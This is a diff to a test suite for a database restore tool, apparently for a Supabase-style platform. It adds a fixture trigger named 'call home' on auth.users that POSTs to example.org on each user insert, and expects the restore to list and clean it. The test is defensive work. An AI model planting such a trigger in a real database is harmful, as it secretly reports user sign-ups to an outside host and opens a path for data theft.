@@ -19,6 +19,8 @@ test('a self-hosted project is replaced by its superuser, but for what belongs t
   await source.postgres.query(shop);
   const target = await startPlatformCluster();
   await loadHostileSource(target);
+  await target.postgres.query(`CREATE TRIGGER "call home" AFTER INSERT ON auth.users FOR EACH ROW
+    EXECUTE FUNCTION supabase_functions.http_request('https://example.org/target', 'POST', '{}', '{}', '1000')`);
   const { project } = await createBackedUpProject(source.administrator, target.administrator);
   const before = await listPlatformState(target);
   const cleaned = await restore(project, 'latest', '--clean', '--no-safety-backup');
@@ -34,6 +36,7 @@ test('a self-hosted project is replaced by its superuser, but for what belongs t
       'access method heap_again',
       'transform TRANSFORM FOR integer LANGUAGE sql',
       'foreign data wrapper no_handler',
+      'trigger users call home in schema auth',
       'policy users own_user in schema auth',
       'the rows of auth.users',
     ]),
@@ -50,6 +53,7 @@ test('a self-hosted project is replaced by its superuser, but for what belongs t
     'policy see_buckets on storage.buckets',
     expect.stringContaining('statement_timeout=5s'),
     'trigger "Odd object trigger" on storage.objects (O)',
+    'trigger "call home" on auth.users (O)',
     'trigger "on user; changed" on auth.users (O)',
     'trigger on_auth_user_created on auth.users (O)',
     'trigger on_object on storage.objects (O)',
